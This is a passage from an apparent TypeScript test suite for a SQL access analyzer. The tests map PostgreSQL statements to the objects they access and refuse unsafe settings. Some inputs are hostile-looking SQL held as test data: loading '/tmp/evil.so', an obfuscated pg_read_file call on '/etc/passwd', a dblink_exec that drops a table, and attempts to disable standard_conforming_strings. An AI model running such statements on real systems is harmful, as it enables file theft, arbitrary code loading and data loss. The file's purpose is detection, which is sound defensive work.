    expectAccesses('CREATE SCHEMA s CREATE TABLE t (a int) CREATE VIEW v AS SELECT * FROM t', [
      { kind: 'create', object: 'schema:s' },
      { kind: 'create', object: 's.t' },
      { kind: 'create', object: 's.v' },
      { kind: 'select', object: 's.t' },
    ]);
  });
  it('partitions change their parent', () => {
    expectAccesses('CREATE TABLE p1 PARTITION OF parent FOR VALUES IN (1)', [{ kind: 'create', object: 'public.p1' }, { kind: 'alter', object: 'public.parent' }]);
    expectAccesses('ALTER TABLE t ATTACH PARTITION p FOR VALUES IN (1)', [
      { kind: 'alter', object: 'public.t' }, { kind: 'alter', object: 'public.p' }, { kind: 'select', object: 'public.p' },
    ]);
  });
  it('routines are schema.name, other schema objects typed, global objects bare', () => {
    expectAccesses('DROP FUNCTION f(int), s.g', [{ kind: 'drop', object: 'public.f' }, { kind: 'drop', object: 's.g' }]);
    expectAccesses('CREATE FUNCTION s.f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', [{ kind: 'create', object: 's.f' }]);
    expectAccesses('DROP TYPE x', [{ kind: 'drop', object: 'type:public.x' }]);
    expectAccesses('DROP SCHEMA s CASCADE', [{ kind: 'drop', object: 'schema:s' }]);
    expectAccesses('GRANT USAGE ON SCHEMA s TO bob', [{ kind: 'grant', object: 'schema:s' }]);
    expectAccesses('GRANT ALL ON ALL TABLES IN SCHEMA public TO bob', [{ kind: 'grant', object: 'public.*' }]);
    expectAccesses('CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = f)', [
      { kind: 'create', object: 'operator:public.===' },
      { kind: 'call', object: 'public.f' }, // the function it runs (sql-oracle-findings.test.ts)
    ]);
    expectAccesses('ALTER TABLE t RENAME COLUMN a TO b', [{ kind: 'alter', object: 'public.t' }]);
  });
  it('expressions inside DDL are walked (index expressions, rule actions, SQL function bodies)', () => {
    expectAccesses('CREATE INDEX ON t USING gin (f(x))', [{ kind: 'create', object: 'public.t' }, { kind: 'call', object: 'public.f' }]);
    expectAccesses('CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u', [{ kind: 'create', object: 'public.t' }, { kind: 'delete', object: 'public.u' }]);
    expectAccesses('CREATE FUNCTION f() RETURNS int BEGIN ATOMIC; DELETE FROM t; SELECT 1; END', [
      { kind: 'create', object: 'public.f' }, { kind: 'delete', object: 'public.t' },
    ]);
    expectAccesses('CREATE TABLE t (LIKE secret INCLUDING ALL)', [{ kind: 'create', object: 'public.t' }, { kind: 'select', object: 'public.secret' }]);
  });
  it('utility statements that are dangerous by themselves', () => {
    expectAccesses("LOAD '/tmp/evil.so'", [{ kind: 'other', object: 'load:/tmp/evil.so', exact: true }]);
  });
});

describe('names of functions', () => {
  it('U&"" and quoted function names are exact', () => {
    expectAccesses(`SELECT U&"pg_read_fil\\0065"('/etc/passwd')`, [{ kind: 'call', object: 'pg_catalog.pg_read_file', exact: true }, { kind: 'select' }]);
    expectAccesses(`SELECT "pg_read_file"('/etc/passwd')`, [{ kind: 'call', object: 'pg_catalog.pg_read_file', exact: true }, { kind: 'select' }]);
    expectAccesses(`SELECT "LOWER"(x) FROM t`, [{ kind: 'call', object: 'public.LOWER' }, { kind: 'select', object: 'public.t' }]);
    expectAccesses('SELECT PG_CATALOG.LOWER(x) FROM t', [{ kind: 'select', object: 'public.t' }]);
  });
  it('dangerous names are exact in any schema', () => {
    expectAccesses("SELECT ext.dblink_exec('host=x', 'DROP TABLE t')", [{ kind: 'call', object: 'ext.dblink_exec', exact: true }, { kind: 'select' }]);
  });
  it('CREATE TABLE … AS EXECUTE names the prepared statement', () => {
    const r = analyze('CREATE TABLE x AS EXECUTE p')[0]!;
    expect(r.accesses).toEqual([{ kind: 'create', object: 'public.x' }, { kind: 'execute', object: 'p' }]);
    expect(r.uses).toEqual({ namespace: 'prepared', name: 'p' });
  });
});

describe('settings that change how the server reads text', () => {
  it('standard_conforming_strings may only stay on', () => {
    for (const ok of ['SET standard_conforming_strings = on', 'SET standard_conforming_strings TO true', 'SET standard_conforming_strings = 1']) {
      const r = analyze(ok)[0]!;
      expect([ok, r.error, r.accesses]).toEqual([ok, undefined, [{ kind: 'set', object: 'standard_conforming_strings' }]]);
      expect(r.literalSensitive).toBe(true);
    }
    for (const bad of [
      'SET standard_conforming_strings = off',
      "SET standard_conforming_strings = 'false'",
      'SET standard_conforming_strings = 0',
      'SET standard_conforming_strings TO DEFAULT',
      "SELECT set_config('standard_conforming_strings', 'off', false)",
    ]) {
      expect([bad, analyze(bad)[0]!.error]).toEqual([bad, 'SET standard_conforming_strings to anything but on is refused']);
    }
  });
});
